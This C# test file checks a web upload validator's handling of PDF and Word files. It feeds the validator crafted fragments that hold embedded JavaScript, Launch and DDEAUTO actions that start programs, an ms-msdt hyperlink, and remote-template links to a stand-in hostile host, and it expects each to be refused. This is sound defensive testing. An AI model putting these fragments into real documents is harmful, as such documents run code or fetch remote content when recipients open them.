using System.Text;
using Microsoft.Extensions.DependencyInjection;
using WijInDeWijk.Tests.Given;
using WijInDeWijk.Tests.Support;
using WijInDeWijk.Web.Uploads;

namespace WijInDeWijk.Tests.Uploads;

/// <summary>A document that does something by itself is refused with the reason, however it hides that; an ordinary one is taken, and told of what it holds.</summary>
public sealed class ActiveContentTests(Site site) : IClassFixture<Site>
{
    private const string Transitional = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    [Theory]
    [InlineData("5 0 obj<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>endobj", UploadRefusal.HasScript)]
    [InlineData("5 0 obj<</S/J#61vaScr#69pt/JS(x)>>endobj", UploadRefusal.HasScript)]
    [InlineData("5 0 obj<</Next[<</S /JavaScript /JS 6 0 R>>]/S/GoTo>>endobj", UploadRefusal.HasScript)]
    [InlineData("5 %een uitleg\n0 obj %nog een\n<</S %en een\n/JavaScript/JS(x)>>endobj", UploadRefusal.HasScript)]
    [InlineData("5 0 obj<</Names<</JavaScript 6 0 R>>>>endobj", UploadRefusal.HasScript)]
    [InlineData("5 0 obj<</Fields[]/XFA[(datasets) 6 0 R]>>endobj", UploadRefusal.HasScript)]
    [InlineData("5 0 obj<</A) fout /S/JavaScript/JS(x)>>endobj", UploadRefusal.HasScript)]
    [InlineData("5 0 obj<</S/URI/URI(javascript:alert\\(1\\))>>endobj", UploadRefusal.HasScript)]
    [InlineData("4 0 obj<</Length 60>>stream\n5 0 obj<</S/JavaScript/JS(x)>>endobj                           \nendstream endobj", UploadRefusal.HasScript)]
    [InlineData("5 0 obj<</S/Launch/F(calc.exe)>>endobj", UploadRefusal.StartsProgram)]
    [InlineData("5 0 obj<</S/SubmitForm/F(https://example.org)>>endobj", UploadRefusal.SendsData)]
    [InlineData("5 0 obj<</S/ImportData/F(x.fdf)>>endobj", UploadRefusal.SendsData)]
    [InlineData("5 0 obj<</Subtype/RichMedia/RichMediaContent 6 0 R>>endobj", UploadRefusal.HasMedia)]
    [InlineData("5 0 obj<</OpenAction<</S/URI/URI(https://example.org)>>>>endobj", UploadRefusal.ReachesOutside)]
    [InlineData("5 0 obj<</OpenAction 6 0 R>>endobj 6 0 obj<</S/GoTo/D[1 0 R/Fit]/Next<</S/GoToR/F(\\\\\\\\kwaad\\\\x.pdf)>>>>endobj", UploadRefusal.ReachesOutside)]
    [InlineData("5 0 obj<</AA<</O<</S/URI/URI(https://example.org)>>>>>>endobj", UploadRefusal.ReachesOutside)]
    [InlineData("5 0 obj<</Type/Filespec/F(factuur.pdf.exe)/EF<</F 6 0 R>>>>endobj", UploadRefusal.HasProgram)]
    [InlineData("5 0 obj<</Type/Filespec/UF<FEFF0073002E006A0073>/EF<</F 6 0 R>>>>endobj", UploadRefusal.HasProgram)]
    [InlineData("5 0 obj<</F(foto.png)/EF<</UF 6 0 R>>>>endobj 6 0 obj<</Length 9>>stream\nMZ1234567\nendstream endobj", UploadRefusal.HasProgram)]
    [InlineData("6 0 obj<</Type/EmbeddedFile/Filter/ASCIIHexDecode/Length 12>>stream\n4D5A90000300>\nendstream endobj", UploadRefusal.HasProgram)]
    [InlineData("5 0 obj<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/Length 60>>stream\n3820302020203C3C2F532F4C61756E63683E3E>\nendstream endobj", UploadRefusal.StartsProgram)]
    [InlineData("5 0 obj<</Type/ObjStm/N 1/First 4/Filter/Onbekend/Length 4>>stream\nabcd\nendstream endobj", UploadRefusal.Damaged)]
    public async Task A_PDF_that_does_something_by_itself_is_refused(string inside, UploadRefusal refusal) =>
        await ShouldRefuseAsync(SampleFiles.Pdf(inside), "verslag.pdf", refusal);

    [Fact]
    public async Task A_PDF_in_which_something_may_lie_deeper_than_we_look_is_refused() =>
        await ShouldRefuseAsync(SampleFiles.Pdf($"5 0 obj{string.Concat(Enumerable.Repeat("<</S/GoTo/Next", 40))}<</S/Launch>>{new string('>', 80)}endobj"), "verslag.pdf", UploadRefusal.TooMuchInside);

    [Theory]
    [InlineData("js-packed.pdf", UploadRefusal.HasScript)]
    [InlineData("js-packed-r3.pdf", UploadRefusal.HasScript)]
    [InlineData("js-packed-r4.pdf", UploadRefusal.HasScript)]
    [InlineData("js-packed-r6.pdf", UploadRefusal.HasScript)]
    [InlineData("program-attached.pdf", UploadRefusal.HasProgram)]
    [InlineData("script-attached-r6.pdf", UploadRefusal.HasProgram)]
    public async Task What_is_packed_and_encrypted_in_a_PDF_is_found_too(string name, UploadRefusal refusal) =>
        await ShouldRefuseAsync(SampleFiles.SecuredPdf(name), name, refusal);

    [Theory]
    [InlineData("5 0 obj<</OpenAction[1 0 R/Fit]>>endobj")]
    [InlineData("5 0 obj<</OpenAction<</S/GoTo/D[1 0 R/XYZ 0 0 0]>>>>endobj")]
    [InlineData("5 0 obj<</OpenAction<</S/Named/N/NextPage>>>>endobj")]
    [InlineData("5 0 obj<</A<</S/URI/URI(https://example.org)>>>>endobj")]
    [InlineData("5 0 obj<</Title(Over /JavaScript en /Launch in een PDF)>>endobj")]
    [InlineData("5 0 obj<</S/P/K 0>>endobj 6 0 obj<</N 3/Length 4>>stream\nabcd\nendstream endobj")]
    [InlineData("5 0 obj<</F(factuur.xml)/EF<</F 6 0 R>>>>endobj 6 0 obj<</Type/EmbeddedFile/Length 4>>stream\n<x/>\nendstream endobj")]
    public async Task An_ordinary_PDF_is_taken(string inside)
    {
        var result = await StoreAsync(SampleFiles.Pdf(inside), "verslag.pdf");

        Assert.True(result.IsStored, result.Message);
    }

    [Fact]
    public async Task What_a_PDF_holds_is_told() =>
        Assert.Equal(new DocumentContents(2, 1, 1, 1), (await StoreAsync(SampleFiles.SecuredPdf("ordinary-r6.pdf"), "verslag.pdf")).File!.Contents);

    [Theory]
    [InlineData("attachedTemplate", "https://kwaad.example/sjabloon.dotm", UploadRefusal.ReachesOutside)]
    [InlineData("attachedTemplate", "file://///kwaad/map/sjabloon.dotx", UploadRefusal.ReachesOutside)]
    [InlineData("attachedTemplate", "\\\\kwaad\\map\\sjabloon.dotx", UploadRefusal.ReachesOutside)]
    [InlineData("attachedTemplate", "file:\\\\kwaad@80\\sjabloon.dotx", UploadRefusal.ReachesOutside)]
    [InlineData("image", "http://kwaad.example/pixel.png", UploadRefusal.ReachesOutside)]
    [InlineData("frame", "//kwaad.example/x.htm", UploadRefusal.ReachesOutside)]
    [InlineData("subDocument", "https://kwaad.example/deel.docx", UploadRefusal.ReachesOutside)]
    [InlineData("oleObject", "mhtml:https://kwaad.example!x-usc:https://kwaad.example", UploadRefusal.HasEmbeddedFile)]
    [InlineData("oleObject", "file:///C:\\cijfers.xlsx", UploadRefusal.HasEmbeddedFile)]
    [InlineData("hyperlink", "ms-msdt:/id PCWDiagnostic", UploadRefusal.StartsProgram)]
    [InlineData("hyperlink", "javascript:alert(1)", UploadRefusal.StartsProgram)]
    [InlineData("attachedTemplate", "file:///C:\\Users\\Ria\\Huisstijl.dotx", null)]
    [InlineData("image", "file:///D:/fotos/tuin.jpg", null)]
    [InlineData("hyperlink", "https://example.org/pagina", null)]
    [InlineData("hyperlink", "mailto:ria@example.org", null)]
    public async Task A_Word_document_may_link_and_not_fetch(string kind, string target, UploadRefusal? refusal) =>
        await ShouldBeAsync(WordWith(relations: $"<Relationship Id=\"r1\" Type=\"{Transitional}{kind}\" TargetMode=\"External\" Target=\"{target}\"/>"), refusal);

    [Theory]
    [InlineData("oleObject", "embeddings/oleObject1.bin", UploadRefusal.HasEmbeddedFile)]
    [InlineData("package", "embeddings/blad.xlsx", UploadRefusal.HasEmbeddedFile)]
    [InlineData("aFChunk", "deel.htm", UploadRefusal.HasEmbeddedFile)]
    [InlineData("image", "media/image1.png", null)]
    [InlineData("styles", "styles.xml", null)]
    public async Task A_Word_document_may_hold_pictures_and_no_other_files(string kind, string target, UploadRefusal? refusal) =>
        await ShouldBeAsync(WordWith(relations: $"<Relationship Id=\"r1\" Type=\"{Transitional}{kind}\" Target=\"{target}\"/>"), refusal);

    [Theory]
    [InlineData("<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x.exe \"/c\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", UploadRefusal.StartsProgram)]
    [InlineData("<w:fldSimple w:instr=' dde excel x '/>", UploadRefusal.StartsProgram)]
    [InlineData("<w:p><w:fldSimple w:instr='INCLUDETEXT \"https://kwaad.example/x.docx\"'/></w:p>", UploadRefusal.ReachesOutside)]
    [InlineData("<w:p><w:fldSimple w:instr=' PAGE '/><w:r><w:t>DDEAUTO is een woord</w:t></w:r></w:p>", null)]
    [InlineData("<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> HYPERLINK \"https://example.org\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", null)]
    public async Task A_field_of_Word_starts_and_fetches_nothing(string text, UploadRefusal? refusal) => await ShouldBeAsync(WordWith(text), refusal);

    [Theory]
    [InlineData("word/media/image1.png")]
    [InlineData("iets/anders.txt")]
    public async Task A_program_in_a_Word_document_is_found_under_any_name(string name) =>
        await ShouldBeAsync(SampleFiles.Word(parts: (name, [.. "MZ"u8, 0x90, 0])), UploadRefusal.HasProgram);

    [Fact]
    public async Task The_table_behind_a_chart_is_taken()
    {
        const string types = "<Override PartName=\"/word/charts/chart1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.drawingml.chart+xml\"/><Default Extension=\"xlsx\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\"/>";
        var relations = Encoding.UTF8.GetBytes($"<Relationships><Relationship Id=\"r1\" Type=\"{Transitional}package\" Target=\"../embeddings/blad.xlsx\"/></Relationships>");

        await ShouldBeAsync(SampleFiles.WordOf(types, ("word/charts/chart1.xml", "<c/>"u8.ToArray()), ("word/charts/_rels/chart1.xml.rels", relations), ("word/embeddings/blad.xlsx", "PK\x03\x04"u8.ToArray())), null);
    }

    [Fact]
    public async Task What_a_Word_document_holds_is_told()
    {
        var content = SampleFiles.Word(parts:
        [
            ("docProps/app.xml", "<Properties><Pages>12</Pages><Words>900</Words></Properties>"u8.ToArray()),
            ("word/_rels/document.xml.rels", Encoding.UTF8.GetBytes($"<Relationships><Relationship Id=\"r1\" Type=\"{Transitional}hyperlink\" TargetMode=\"External\" Target=\"https://example.org\"/></Relationships>")),
        ]);

        Assert.Equal(new DocumentContents(12, 1, 0, 0), (await StoreAsync(content, "verslag.docx")).File!.Contents);
    }

    [Fact]
    public async Task A_zip_file_that_lists_more_files_than_it_says_is_counted()
    {
        var many = SampleFiles.Word(parts: [.. Enumerable.Range(0, 4_000).Select(number => ($"word/{number}", Array.Empty<byte>()))]);
        var end = many.AsSpan().LastIndexOf("PK\x05\x06"u8);
        many.AsSpan(end + 8, 4).Fill(1);

        await ShouldBeAsync(many, UploadRefusal.TooMuchInside);
    }

    private UploadedFiles Files => site.Services.GetRequiredService<UploadedFiles>();

    private static byte[] WordWith(string text = "", string relations = "") => SampleFiles.WordOf(
        string.Empty,
        ("word/document.xml", Encoding.UTF8.GetBytes($"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{text}</w:body></w:document>")),
        ("word/_rels/document.xml.rels", Encoding.UTF8.GetBytes($"<Relationships>{relations}</Relationships>")));

    private Task ShouldBeAsync(byte[] content, UploadRefusal? refusal) => ShouldRefuseAsync(content, "verslag.docx", refusal);

    private async Task ShouldRefuseAsync(byte[] content, string name, UploadRefusal? refusal)
    {
        var result = await StoreAsync(content, name);

        Assert.Equal(refusal, result.Refusal);
        Assert.True(refusal is null || result.Message!.Contains("ies", StringComparison.Ordinal), result.Message);
    }

    private async Task<UploadResult> StoreAsync(byte[] content, string? name)
    {
        using var stream = new MemoryStream(content);
        return await Files.StoreAsync(stream, name, TestContext.Current.CancellationToken);
    }
}
